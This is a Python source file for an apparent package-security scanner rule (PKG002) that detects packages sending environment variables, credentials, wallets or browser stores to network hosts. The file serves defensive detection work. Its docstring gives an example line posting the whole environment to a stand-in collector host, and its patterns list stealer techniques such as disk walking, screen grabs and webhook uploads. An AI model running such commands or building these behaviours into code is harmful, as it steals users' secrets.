"""PKG002: environment variables, credentials or host identity flow into a network request.

The checks: a network call (``requests.*``, ``urllib``, sockets, DNS look-ups) whose arguments
carry secrets or the contents of a private store; a method of a network client (``post``,
``send``...) handed secrets; and, in code only run when called, files opened and posted by a
module that walks the disk and names a paste, bot or webhook channel.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterable, Sequence
from dataclasses import replace

from outwork.analyzers.packages import data as tables
from outwork.analyzers.packages import destinations
from outwork.analyzers.packages.facts import CallSite, Labels
from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.analyzers.packages.signals import Context, clip
from outwork.core.fold import iter_strings
from outwork.core.rules import Confidence, Layer, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)

#: Methods of a network client that send what they are given.
SEND_ATTRS = frozenset(
    {
        "post",
        "put",
        "send",
        "sendall",
        "sendto",
        "request",
        "urlopen",
        # mail and file-transfer clients (smtplib, ftplib)
        "sendmail",
        "storbinary",
        "storlines",
        # chat-bot clients (telebot, python-telegram-bot, aiogram, telethon, pyrogram)
        "send_message",
        "send_document",
        "send_file",
        "send_photo",
    }
)
#: Client methods whose arguments are the content delivered (a mail, a chat message, an
#: uploaded file), never the credentials a client authenticates with (``login`` takes those):
#: a secret among them is sent to whoever receives the content.
CONTENT_SENDS = frozenset(
    {"sendmail", "send_message", "storbinary", "storlines", "send_document", "send_file",
     "send_photo"}
)  # fmt: skip
#: Channels stealers post collected files to (classes of ``destinations.toml``).
EXFIL_CLASSES = ("messaging-webhook", "request-bin", "paste-or-file-drop", "tunnel")
#: Collecting files to send: walking directories, capturing the screen.
COLLECTS_FILES = re.compile(
    r"\bos\.walk\(|\bos\.listdir\(|\bos\.scandir\(|\bglob\.glob\(|\.rglob\(|"
    r"ImageGrab\.grab\(|\.screenshot\("
)


class SecretExfiltration(BehaviourRule):
    """Environment variables, credentials or host identity flow into a network request.

    ## What it finds
    A data flow, inside one function or module, from a secret source (`os.environ`, `os.getenv`,
    `getpass.getuser`, `socket.gethostname`, reads of credential files) to a network sink
    (`requests.*`, `urllib`, `http.client`, sockets, DNS look-ups, webhooks, and the chat-bot
    clients of telebot, python-telegram-bot, aiogram, pyrogram, telethon and discord.py with
    their `send_message`/`send_document`/`send`). Variables that name the user or the machine
    (`USERNAME`, `COMPUTERNAME`) count as host identity, and the contents of private keys, shell
    history, browser profiles or wallets sent anywhere are theft even in code that only runs
    when called. A secret in the content of a mail, a chat message or an uploaded file
    (`smtplib`'s `sendmail`/`send_message`, `ftplib`'s `storbinary`/`storlines`, a bot's
    `send_document`) is sent to whoever receives it, never used to log in, and weighs as a
    dump; a message or buffer filled with secrets (`msg.set_content(...)`, `body[k] = ...`)
    carries them, and so does a copy of a credential store (`shutil.copy` of a browser's
    locked database), a file the secrets were written or dumped to, or an archive a credential
    store was put in (collected, then uploaded). So are, from a function only called:
    - key material handed to the function (a parameter named `private_key`, `mnemonic`,
      `seed_phrase`, `recovery_phrase`..., or the first parameter of a function named for
      one: `from_mnemonic(phrase)`) sent to a constant host: wallets sign locally
      (what a wallet library's signer shows of the key, its address and the signatures it
      makes, is what the key's holder publishes: `eth_account`'s `Account.from_key(k).address`
      and `sign_message(...)`, PyNaCl's and solders' signing keys; the key itself, the
      account's `key`, or a look-alike class of the package's own, stay theft);
    - a `.env` file or a process's `/proc/*/environ` (the whole configured environment);
    - the calling program's own source (`inspect.getsource` of, or `open` on, a frame from
      `inspect.stack()`, `inspect.currentframe()`, `sys._getframe()`);
    - a boto3 session's resolved credentials (`get_credentials()`,
      `get_frozen_credentials()`) or a pod's Kubernetes service-account token sent to a
      constant host outside the platform (AWS domains; the cluster's API server).

    Destinations are weighed by class (`data/destinations.toml`, each class with its documented
    sources): any secret sent to a `channel` (a messaging bot or webhook, a request bin, a
    paste or file drop, a tunnel, a dynamic DNS name, an anonymity network, a raw public IP
    address, a link shortener) is theft wherever the code runs; to a free serverless or
    application host it is critical from install or import code and medium from code a user
    calls.

    One item of a whole store is one value, however the store is named: `env[key]` or
    `env.get(key)` with `env = os.environ` is the variable `os.environ[key]` is (a platform's
    key by its name stays that platform's), not the environment. A client that reads a token
    named in the URL it was given and sends it to that URL is how authenticated clients work
    (no finding from code only called); the same token sent to a webhook, paste host or raw
    address, a platform's key sent to a constant host outside the platform, and the whole
    environment sent anywhere stay high. The whole address being one environment variable that
    holds configuration, read as written (`requests.get(os.getenv("ARM_CLOUD_METADATA_URL"))`:
    the operator names the endpoint) sends the value only to the host it names, and is judged
    as any network call (PKG007); a variable named as a secret or as the user's or machine's
    identity, an address built around the value, a default that is not a constant, or
    anything else the request carries still counts.

    ## Why it matters
    Stealing CI tokens, cloud keys and developer credentials is the main goal of most poisoned
    packages; an install-time flow from the environment to the network is that theft.

    ## Example
    ```python
    requests.post("https://collector.example", data=dict(os.environ))
    ```

    ## Remediation
    Do not install the package; rotate every credential present in the environments where it ran.

    ## References
    - MITRE ATT&CK T1552.001 (Credentials In Files), T1041 (Exfiltration Over C2 Channel)
    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    """

    code = "PKG002"
    name = "secret-exfiltration"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (200, 506)
    attack = ("T1041", "T1552.001")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    SECRET = Variant("sends a configured secret", C, C, M, N)
    HOST = Variant("sends host identity", C, C, C, N)
    DUMP = Variant(
        "sends the whole environment, a private store, or to a paste, webhook or raw address",
        C,
        C,
        C,
        H,
    )
    FOREIGN = Variant(
        "sends a platform's credential (AWS, GitHub, npm, PyPI, cloud and API keys by their"
        " documented variable names) to a constant host outside that platform's domains",
        C,
        C,
        C,
        H,
    )
    HOSTED = Variant(
        "sends a secret or host identity to a free serverless or application host",
        C,
        C,
        C,
        M,
    )
    UPLOAD = Variant(
        "uploads collected files to a webhook, bot or paste channel (from code only run when"
        " called; where it runs earlier, the call is judged by what it sends and where)",
        N,
        N,
        N,
        H,
    )


def client_sends(call: CallSite) -> None:
    """``client.post(...)``, ``sock.send(...)``: a method of a network client (a value labelled
    ``client``) handed secrets."""
    func = call.node.func
    if not isinstance(func, ast.Attribute):
        return
    labels = call.arguments_labels()
    client = "client" in call.labels(func.value)
    if "secret" not in labels or not client:
        return
    if labels & {"dump", "store", "keyarg"} or func.attr in CONTENT_SENDS:
        variant = SecretExfiltration.DUMP
    else:
        # where it goes weighs as for a plain request: a platform's token sent to a constant
        # host outside the platform, a channel, a serverless host
        folder = call.folder()
        texts = [
            text
            for arg in [*call.node.args, *(k.value for k in call.node.keywords)]
            for text in iter_strings(folder.fold(arg))
        ]
        suspicious = any(destinations.suspicious(t) for t in texts)
        if sends(replace(call, name=call.name or func.attr), labels, suspicious, texts):
            return
        variant = SecretExfiltration.HOST if "host" in labels else SecretExfiltration.SECRET
    call.emit(
        variant,
        f"sends secrets or host identity over the network {call.ctx.label}",
        clip(ast.unparse(call.node)),
        exfiltrates=True,
    )


def sends(call: CallSite, labels: Labels, suspicious: bool, texts: Sequence[str] = ()) -> bool:
    """A network call whose arguments carry secrets (``labels``, already cleared of what a
    client constructor or a look-up of the host's own name sends) or go to a paste, webhook or
    raw address (``suspicious``); ``texts`` are its folded constant arguments. True when it
    raised a finding."""
    name, label = call.name, call.ctx.label
    foreign = foreign_host(labels, texts)
    if "secret" in labels and foreign and not suspicious:
        call.emit(
            SecretExfiltration.FOREIGN,
            f"{name}() sends a {foreign[0]} credential to {foreign[1]}, not that platform's"
            f" host, {label}",
            clip(ast.unparse(call.node)),
            exfiltrates=True,
        )
        return True
    if "keyarg" in labels and _constant_host(texts):
        # a private key, mnemonic or seed phrase handed to the function, sent to a constant host
        call.emit(
            SecretExfiltration.DUMP,
            f"{name}() sends a private key, mnemonic or seed phrase it was given to"
            f" {_constant_host(texts)} {label}",
            clip(ast.unparse(call.node)),
            exfiltrates=True,
        )
        return True
    if "store" in labels:
        # a private key, shell history, browser or wallet store read and sent: theft
        call.emit(
            SecretExfiltration.DUMP,
            f"{name}() sends the contents of a private key, history, browser or wallet store"
            f" {label}",
            clip(ast.unparse(call.node)),
            exfiltrates=True,
        )
        return True
    if (
        "secret" in labels
        and "dump" not in labels
        and not suspicious
        and any(destinations.hosted(t) for t in texts)
    ):
        # a throw-away function or app URL: where a stealer's collector is a minute's work
        call.emit(
            SecretExfiltration.HOSTED,
            f"{name}() sends secrets or host identity to a serverless or app host {label}",
            clip(ast.unparse(call.node)),
            exfiltrates=True,
        )
        return True
    if "secret" in labels and (call.ctx is not Context.RUNTIME or "dump" in labels or suspicious):
        # a function reached (as far as names tell) from the top level that sends one
        # configured variable is how SDKs authenticate; dumps and host identity are not
        if "dump" in labels or suspicious:
            variant = SecretExfiltration.DUMP
        elif "host" in labels:
            variant = SecretExfiltration.HOST
        else:
            variant = SecretExfiltration.SECRET
        call.emit(
            variant,
            f"{name}() sends secrets or host identity {label}",
            clip(ast.unparse(call.node)),
            exfiltrates=True,
        )
        return True
    if call.ctx is Context.RUNTIME and "file" in labels and uploads_collected_files(call):
        # a function that walks the disk or grabs the screen and posts the files it opens
        # to a webhook, chat bot or paste channel is a stealer whether or not it is called
        call.emit(
            SecretExfiltration.UPLOAD,
            f"{name}() uploads collected files to a webhook, bot or paste channel {label}",
            clip(ast.unparse(call.node)),
            exfiltrates=True,
        )
        return True
    return False


def uploads_collected_files(call: CallSite) -> bool:
    """Whether the module names an exfiltration channel and collects files to send."""
    return call.facts.module_matches(COLLECTS_FILES) and call.facts.module_matches(
        destinations.named(*EXFIL_CLASSES)
    )


_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://(?:[^/@\s]*@)?([^/:?#\s]+)", re.IGNORECASE)


def foreign_host(labels: Labels, texts: Iterable[str]) -> tuple[str, str] | None:
    """(platform, host) when ``labels`` carry a platform's credential and a constant URL among
    ``texts`` names a host outside all of that platform's domains (see
    :data:`~outwork.analyzers.packages.data.SECRET_VENDORS`)."""
    vendors = [v.removeprefix("vendor:") for v in labels if v.startswith("vendor:")]
    if not vendors:
        return None
    for text in texts:
        match = _HOST.match(text.strip())
        if match is None:
            continue
        host = match.group(1).lower().rstrip(".")
        if LOCAL_HOST.match(host):
            continue
        for prefix in vendors:
            domains = tables.SECRET_VENDORS.get(prefix, ())
            if not any(
                host == d or host.endswith("." + d) or d in host.split(".") for d in domains
            ):
                return prefix.rstrip("_"), host
    return None


def _constant_host(texts: Iterable[str]) -> str:
    """The first non-local host a constant URL among ``texts`` names, or ''."""
    for text in texts:
        match = _HOST.match(text.strip())
        if match is not None and not LOCAL_HOST.match(match.group(1).lower()):
            return match.group(1).lower()
    return ""


#: Loopback and private hosts: tests and local services.
LOCAL_HOST = re.compile(
    r"^(localhost|127\.|0\.0\.0\.0|\[?::1|10\.|192\.168\.|169\.254\.|172\.(1[6-9]|2\d|3[01])\.)"
)
